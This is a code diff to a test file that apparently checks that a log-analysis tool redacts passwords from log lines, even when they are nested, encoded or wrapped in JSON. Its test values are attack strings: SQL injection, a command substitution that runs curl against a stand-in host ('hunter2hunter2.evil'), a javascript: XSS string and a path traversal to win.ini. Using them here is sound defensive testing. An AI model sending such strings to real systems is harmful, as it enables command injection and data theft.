@@ -93,10 +93,23 @@ it.each([
   "admin'/*hunter2hunter2*/or/**/1=1--",
   '$(curl http://hunter2hunter2.evil/x)',
   "javascript:alert('hunter2hunter2')",
+  'hunter2hunter2" or "1"="1',
+  String.raw`..\..\hunter2hunter2\windows\win.ini`,
 ])('keeps the secret %s out of evidence, however often it was encoded and wherever it stands', (secret) => {
   const nested = encodeURIComponent(`https://h/?password=${encodeURIComponent(secret)}`);
   const referer = logLine('/').replace('"-"', `"https://h.example/?password=${twice(secret)}"`);
-  for (const line of [logLine(`/?password=${twice(secret)}`), logLine(`/?next=${nested}`), referer]) {
+  const document = JSON.stringify({ user: 'x', password: secret });
+  const inDocument = twice(JSON.stringify({ d: document }));
+  for (const line of [
+    logLine(`/?password=${twice(secret)}`),
+    logLine(`/?next=${nested}`),
+    referer,
+    logLine(`/?d=${encodeURIComponent(document)}`),
+    logLine(`/?d=${encodeURIComponent(document.replaceAll('/', '\\/'))}`),
+    logLine(`/?d=${inDocument}`),
+    referer.replace('?password=', `?d=${inDocument}&password=`),
+    docker(traefik(`/?d=${document}`)),
+  ]) {
     const event = eventOf(line);
     expect(event.matches).not.toEqual([]);
     expect(JSON.stringify(event)).not.toContain('hunter2');
